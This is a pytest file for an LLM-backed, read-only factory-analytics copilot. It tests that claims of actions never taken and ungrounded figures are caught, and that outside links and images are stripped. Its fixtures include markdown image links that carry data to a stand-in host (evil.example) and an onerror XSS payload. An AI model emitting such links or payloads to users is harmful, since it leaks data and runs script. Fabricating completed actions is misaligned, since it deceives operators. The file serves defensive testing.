"""The model's words are checked for claims, number words, kinds of figures and outside links; its tools are capped."""

from __future__ import annotations

import pytest
from llm_replay_server import ReplayServer, call, text
from test_llm_agent import copilot, replay, settings  # the same copilot, replay server and settings

from copilot.engine import Copilot
from copilot.llm.claims import claimed_action, safe_markdown
from copilot.llm.number_words import word_numbers
from copilot.llm.router import Trace, ask_with_model
from copilot.llm.tools import MAX_RESULT_CHARS

OPEN_EN = "Tell me a joke about the plant"
OPEN_DE = "Erzähl mir einen Witz über die Lackiererei"
__all__ = ["copilot", "replay"]  # fixtures used by name
OEE_L3 = call("query_metric", metric="oee", period="last week", filters={"line": ["L3"]})  # 70.2 %


def test_a_false_claim_of_an_action_is_not_shown(copilot: Copilot, replay: ReplayServer) -> None:
    claim = "Erledigt: Ich habe den Ausschusszähler von Linie 1 zurückgesetzt und alle Stillstände gelöscht."
    replay.script = [OEE_L3, text(claim)]
    trace = Trace()
    answer = ask_with_model(copilot, OPEN_DE, settings=settings(replay), trace=trace)
    assert "zurückgesetzt" not in answer.text and "gelöscht" not in answer.text
    assert answer.planner == "offline" and trace.failure == "action_claim"
    assert "Der Copilot liest nur" in answer.warnings[0]
    assert answer.text == copilot.ask(OPEN_DE).text


def test_done_after_a_delete_request_is_not_shown(copilot: Copilot, replay: ReplayServer) -> None:
    replay.script = [text("Done.")]
    answer = ask_with_model(copilot, OPEN_EN, settings=settings(replay))
    assert answer.text != "Done." and answer.planner == "offline"
    assert "The copilot only reads" in answer.warnings[0]


def test_a_percentage_in_words_is_grounded_like_digits(copilot: Copilot, replay: ReplayServer) -> None:
    replay.script = [OEE_L3, text("Die OEE von Linie 3 lag letzte Woche bei siebenundneunzig Prozent.")]
    answer = ask_with_model(copilot, OPEN_DE, settings=settings(replay))
    assert "siebenundneunzig" not in answer.text and "70,2" in answer.text
    assert (
        answer.planner == "template"
    )  # the product's text from the model's tool call, not the model's words
    assert any("siebenundneunzig" in w for w in answer.warnings)


def test_a_grounded_number_word_passes(copilot: Copilot, replay: ReplayServer) -> None:
    replay.script = [OEE_L3, text("Line 3 reached an OEE of about seventy percent last week.")]
    answer = ask_with_model(copilot, OPEN_EN, settings=settings(replay))
    assert answer.planner == "llm" and "seventy percent" in answer.text


def test_a_percentage_is_never_grounded_by_the_digits_of_a_timestamp(
    copilot: Copilot, replay: ReplayServer
) -> None:
    sql = "SELECT TIMESTAMP '2025-11-19 06:59:57' AS ts, 'L1' AS line_id"
    replay.script = [call("run_sql", sql=sql), text("Line 1 ran at 59 % in the morning and 57 % later.")]
    answer = ask_with_model(copilot, OPEN_EN, settings=settings(replay))
    assert answer.planner == "template" and "59 %" not in answer.text
    replay.script = [call("run_sql", sql=sql), text("The first unit of line 1 left at 06:59.")]
    assert (
        ask_with_model(copilot, OPEN_EN, settings=settings(replay)).planner == "llm"
    )  # a time may be repeated


def test_images_and_outside_links_are_stripped(copilot: Copilot, replay: ReplayServer) -> None:
    reply = (
        "Line 3 reached an OEE of 70.2 % ![chart](https://evil.example/p.png?d=70.2) — "
        "[details](https://evil.example/x) <img src='http://evil.example/i'> see www.evil.example"
    )
    replay.script = [OEE_L3, text(reply)]
    answer = ask_with_model(copilot, OPEN_EN, settings=settings(replay))
    assert answer.planner == "llm" and "70.2 %" in answer.text and "details" in answer.text
    assert "evil" not in answer.text and "![" not in answer.text and "<img" not in answer.text


def test_tool_results_sent_to_the_model_are_capped(copilot: Copilot, replay: ReplayServer) -> None:
    replay.script = [
        call("run_sql", sql="SELECT repeat('x', 10000) AS pad FROM range(5000)"),
        text("Big rows."),
    ]
    ask_with_model(copilot, OPEN_EN, settings=settings(replay))
    (result,) = [m["content"] for m in replay.requests[1]["messages"] if m["role"] == "tool"]
    assert len(result) <= MAX_RESULT_CHARS + 100 and "xxxx" in result


@pytest.mark.parametrize(
    "reply",
    [
        "Erledigt: Ich habe den Ausschusszähler von Linie 1 zurückgesetzt.",
        "Done.",
        "Done. The stops are gone.",
        "Erledigt.",
        "I have deleted the downtime records of line 2.",
        "I've reset the scrap counter.",
        "The counters have been reset.",
        "Alle Stillstände wurden gelöscht.",
        "Die Stückzahl ist jetzt korrigiert.",
        "Ich habe die Schichtleitung per E-Mail benachrichtigt.",
        "We have successfully updated the targets.",
        "I sent the report to the plant manager.",
    ],
)
def test_claims_of_actions_are_found(reply: str) -> None:
    assert claimed_action(reply) is not None


@pytest.mark.parametrize(
    "reply",
    [
        "Line 3 reached an OEE of 70.2 % last week.",
        "Ich habe nichts geändert: der Copilot liest nur.",
        "I cannot delete data; I only read it.",
        "Die Linie wurde 40 Minuten gestoppt.",
        "I have built a 5-Why tree for line 2.",
        "The order was cancelled on Monday.",
        "Der Auftrag wurde storniert.",
        "Completed orders: 12.",
        "I see that line 3 changed its product twice.",
    ],
)
def test_descriptions_of_the_plant_are_no_claims(reply: str) -> None:
    assert claimed_action(reply) is None


@pytest.mark.parametrize(
    ("written", "value", "kind"),
    [
        ("siebenundneunzig Prozent", 97, "share"),
        ("seventy-four percent", 74, "share"),
        ("zweihundertdrei Stopps", 203, "count"),
        ("two hundred and five stops", 205, "count"),
        ("einundzwanzig Minuten", 21, "time"),
        ("dreitausend kWh", 3000, "energy"),
        ("zero defects", 0, "count"),
        ("twelve of them", 12, None),
        ("die Hälfte der Stillstände", 0.5, "share"),
        ("zwei Drittel des Ausschusses", 2 / 3, "share"),
        ("a third of the scrap", 1 / 3, "share"),
    ],
)
def test_number_words(written: str, value: float, kind: str | None) -> None:
    (found,) = word_numbers(written)
    assert found.value == pytest.approx(value) and found.kind == kind


def test_words_that_only_look_like_numbers() -> None:
    assert word_numbers("in der ersten Hälfte der Woche, Achtung, Null-Fehler-Ziel, one line") == []


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("A ![x](https://evil.example/a.png) B", "A B"),
        ("[Bericht](https://evil.example/r) lesen", "Bericht lesen"),
        ("<img src=x onerror=alert(1)>OEE", "OEE"),
        ("<https://evil.example/x> OEE", "OEE"),
        ("OEE 70 % http://evil.example/?q=70", "OEE 70 %"),
        ("**OEE** 70 %\n\n[ref]: https://evil.example", "**OEE** 70 %"),
    ],
)
def test_safe_markdown(markdown: str, shown: str) -> None:
    assert safe_markdown(markdown) == shown


def test_the_time_budget_counts_the_tools(sample_db, replay: ReplayServer) -> None:
    from connectors.duckdb_connector import DuckDBConnector

    slow = "SELECT count(*) FROM units a, units b WHERE a.ts < b.ts"  # stopped at the query limit, 0.4 s
    quick_engine = Copilot(DuckDBConnector(sample_db, timeout_s=0.4))
    replay.script = [{"tool_calls": [("run_sql", {"sql": slow})] * 8, "delay": 0}, text("Slow.")]
    trace = Trace()
    answer = ask_with_model(quick_engine, OPEN_EN, settings=settings(replay, timeout_s=1.0), trace=trace)
    assert trace.failure == "timeout" and 1 <= len(trace.tools) <= 3  # eight calls asked, the rest not run
    assert answer.planner == "offline" and len(replay.requests) == 1
